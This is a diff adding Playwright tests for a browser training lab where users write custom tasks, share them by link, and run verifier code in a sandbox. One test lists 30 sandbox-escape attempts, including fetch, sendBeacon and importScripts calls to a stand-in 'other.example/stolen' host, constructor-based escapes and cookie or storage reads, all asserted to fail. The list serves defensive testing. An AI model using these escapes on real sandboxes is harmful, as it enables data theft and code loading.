@@ -1,0 +1,181 @@
+/** A task of one's own on the built page: written, checked, warmed up, trained, shared by a link that asks; and what its code reaches. */
+import { expect, test, type Page } from '@playwright/test';
+import { AxeBuilder } from '@axe-core/playwright';
+import {
+  alert,
+  button,
+  expectState,
+  fillIn,
+  openLab,
+  quick,
+  reaches,
+  reading,
+  recipe,
+  setting,
+} from './lab.ts';
+
+const editor = (page: Page) => page.getByRole('dialog', { name: 'Your own task' });
+const checks = (page: Page) => editor(page).getByRole('region', { name: 'Checks' });
+
+async function openEditor(page: Page): Promise<void> {
+  await recipe(page)
+    .getByRole('button', { name: /^(Write your own|Edit your) task$/ })
+    .click();
+  await expect(checks(page).getByRole('listitem')).not.toHaveCount(0, { timeout: 30_000 });
+}
+
+/** Puts code into the editor, as a file does. */
+async function write(page: Page, source: string): Promise<void> {
+  const file = { name: 'task.js', mimeType: 'text/javascript', buffer: Buffer.from(source) };
+  await editor(page).getByLabel('Open file').setInputFiles(file);
+  await expect(checks(page)).toHaveAttribute('aria-busy', 'false', { timeout: 30_000 });
+}
+
+async function verdict(page: Page, answer: string): Promise<string> {
+  await editor(page)
+    .getByLabel(/^Answer to/)
+    .fill(answer);
+  await button(page, 'Verify').click();
+  const said = editor(page).getByLabel('Verdict');
+  await expect(said).not.toHaveText('');
+  return said.innerText();
+}
+
+const taskWith = (verify: string, before = ''): string => `${before}
+export const name = 'Copy a digit';
+export const description = 'Write the digit again.';
+export const levels = [{ title: 'two digits' }];
+export const prompt = (random) => String(random.integer(100)) + ':';
+export const solution = (prompt) => prompt.slice(0, 1);
+export function verify(prompt, answer) { ${verify} }
+`;
+
+test('a task is written, warmed up and trained, resumes, and its link shows the code and asks', async ({
+  page,
+  context,
+}) => {
+  test.setTimeout(180_000);
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await openLab(page);
+  await fillIn(page, quick);
+  await openEditor(page);
+  await write(page, taskWith('return answer === solution(prompt)'));
+  await expect(checks(page).getByText('failed')).toHaveCount(0);
+  expect((await new AxeBuilder({ page }).include('dialog').analyze()).violations).toEqual([]);
+  await button(page, 'Warm start').click();
+  await expect(editor(page).getByText(/Warm start ended after \d+ updates, held-out pass@1/)).toBeVisible({
+    timeout: 120_000,
+  });
+  await button(page, 'Save').click();
+  await expect(editor(page).getByText('Saved as “Copy a digit”.')).toBeVisible();
+  await button(page, 'Use this task').click();
+  await expect(setting(page, 'Task').locator('option:checked')).toHaveText('Copy a digit (own)');
+  await fillIn(page, { 'Prompts per round': '4', 'Completions per prompt': '4', 'Held-out prompts': '16' });
+  await button(page, 'Run').click();
+  await reaches(page, 12);
+  expect(await reading(page, 'reward')).toBeGreaterThan(0);
+  await button(page, 'Pause').click();
+  await expectState(page, 'paused');
+  const round = (await reading(page, 'round')) as number;
+
+  await button(page, 'Copy link').click();
+  await expect(recipe(page).getByRole('status', { name: 'Link' })).toHaveText('Copied');
+  const link = await page.evaluate(() => navigator.clipboard.readText());
+  await openLab(page);
+  await button(page, 'Resume').click();
+  await reaches(page, round + 2);
+  await button(page, 'Pause').click();
+
+  const other = await context.newPage();
+  await other.goto(link);
+  const asked = other.getByRole('dialog', { name: 'This link brings code' });
+  await expect(asked).toBeVisible({ timeout: 30_000 });
+  await expect(asked.getByLabel('Code of the link')).toContainText('Write the digit again.');
+  expect(other.workers().filter((worker) => worker.url().includes('sandbox'))).toEqual([]);
+  await button(other, 'Open the task').click();
+  await expect(setting(other, 'Task').locator('option:checked')).toHaveText('Copy a digit (own)');
+  await expectState(other, 'idle');
+
+  await other.goto('about:blank');
+  await other.goto(link.replace('Write+the+digit', 'Steal+the+digit'));
+  await button(other, 'Open the task').click();
+  await expect(alert(other)).toContainText('The link was changed or shortened on its way');
+
+  await other.goto(`embed.html${new URL(link).hash}`);
+  await expect(alert(other)).toContainText('it brings a task that somebody wrote');
+});
+
+const other = 'https://other.example/stolen';
+
+/** Each is a way out of ordinary JavaScript; it has succeeded if it does not throw and gives something. */
+const attempts: Readonly<Record<string, string>> = {
+  'fetch from another origin': `fetch('${other}')`,
+  'fetch from this origin': `fetch('/')`,
+  XMLHttpRequest: `new XMLHttpRequest().open('GET', '${other}')`,
+  WebSocket: `new WebSocket('wss://other.example')`,
+  EventSource: `new EventSource('${other}')`,
+  sendBeacon: `navigator.sendBeacon('${other}', 'x')`,
+  WebTransport: `new WebTransport('${other}')`,
+  RTCPeerConnection: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:other.example' }] })`,
+  Image: `new Image().src = '${other}'`,
+  importScripts: `importScripts('${other}')`,
+  'fetch by way of the constructor of functions': `Function('return fetch')()('${other}')`,
+  'fetch by way of eval': `(0, eval)('fetch')('${other}')`,
+  'the global object by way of a constructor': `(() => {}).constructor('return self')()`,
+  'the host by way of an error': `(() => { try { null.x } catch (e) { return e.constructor.constructor('return self')() } })()`,
+  indexedDB: `indexedDB.open('espalier')`,
+  localStorage: `localStorage.length + 1`,
+  sessionStorage: `sessionStorage.length + 1`,
+  caches: `caches.open('x')`,
+  cookies: `document.cookie + '!'`,
+  'files of the origin': `navigator.storage.getDirectory()`,
+  'the parent': `parent.postMessage('x', '*') ?? 1`,
+  'the opener': `opener.location`,
+  'the page': `document.body`,
+  'a new window': `window.open('${other}')`,
+  'the worker around it': `self.close() ?? 1`,
+  'a message to the worker around it': `postMessage({ number: 1, answers: ['{"value":[[1,""]]}'] }) ?? 1`,
+  'other tabs': `new BroadcastChannel('espalier').postMessage('x') ?? 1`,
+  'a worker of its own': `new Worker('data:text/javascript,0')`,
+  'the WASM around it': `WebAssembly.Module`,
+  'modules of QuickJS': `[typeof std, typeof os, typeof process, typeof require, typeof Deno].find((one) => one !== 'undefined').length`,
+};
+
+test('code in the sandbox of the built page reaches nothing in 30 tries, has the numbers of Node, and a verifier that fails stops the run', async ({
+  page,
+}) => {
+  const sought: string[] = [];
+  page.on('request', (request) => sought.push(request.url()));
+  await openLab(page);
+  await openEditor(page);
+  const names = Object.keys(attempts);
+  expect(names).toHaveLength(30);
+  const tries = Object.values(attempts).map((way) => `() => ${way}`);
+  const reach = `if (answer !== '9') return answer === solution(prompt);
+    let tried = 0;
+    const out = [];
+    for (const one of tries) {
+      tried++;
+      try { const value = one(); if (value !== undefined && value !== globalThis) out.push(tried); } catch {}
+    }
+    return { reward: 0, reason: tried + ' tried, out: ' + out.join(' ') + '.' };`;
+  await write(page, taskWith(reach, `const tries = [${tries.join(',\n')}];`));
+  expect(await verdict(page, '9')).toBe('Reward 0: 30 tried, out: ..');
+  const { origin } = new URL(page.url());
+  expect(sought.filter((url) => new URL(url).origin !== origin && !url.startsWith('blob:'))).toEqual([]);
+
+  const sum = `let sum = 0;
+    for (let i = 1; i < 200; i++) sum += Math.sin(i) * Math.exp(-i / 50) + Math.pow(i, 0.37) + Math.tan(i) / 1e3;
+    return { reward: 0, reason: String(sum) };`;
+  await write(page, taskWith(sum));
+  expect(await verdict(page, '9')).toBe('Reward 0: 1033.492206084256.');
+
+  await write(page, taskWith('for (;;) {}'));
+  await expect(checks(page)).toContainText('Verify took too many steps: it may have an endless loop.');
+  await write(page, taskWith(`if (answer !== solution(prompt)) throw new Error('no'); return true`));
+  await button(page, 'Use this task').click();
+  await fillIn(page, quick);
+  await button(page, 'Run').click();
+  await expectState(page, 'error');
+  await expect(alert(page)).toContainText('Verifier failed: verify threw Error: no');
+});
